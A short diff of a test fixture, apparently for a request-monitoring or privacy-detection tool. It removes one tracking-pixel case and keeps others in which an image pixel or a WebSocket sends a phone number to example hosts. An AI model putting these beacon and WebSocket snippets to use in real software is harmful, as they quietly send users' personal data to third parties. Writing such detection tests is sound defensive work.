@@ -130,12 +130,6 @@ export const REQUESTS: readonly Row[] = [
     has: { method: 'GET', url: `http://stat.example.com/p.gif?tel=${PHONE}`, initiator: 'image' },
   },
   {
-    name: 'a pixel by attribute',
-    act: `document.createElement('img').setAttribute('src', 'http://stat.example.com/q.gif?tel=1')`,
-    kind: 'request-sent',
-    has: { url: 'http://stat.example.com/q.gif?tel=1', initiator: 'image' },
-  },
-  {
     name: 'WebSocket',
     act: `const socket = new WebSocket('ws://push.example.cn/im?tel=1'); socket.onopen = () => socket.send('tel=${PHONE}')`,
     kind: 'request-sent',
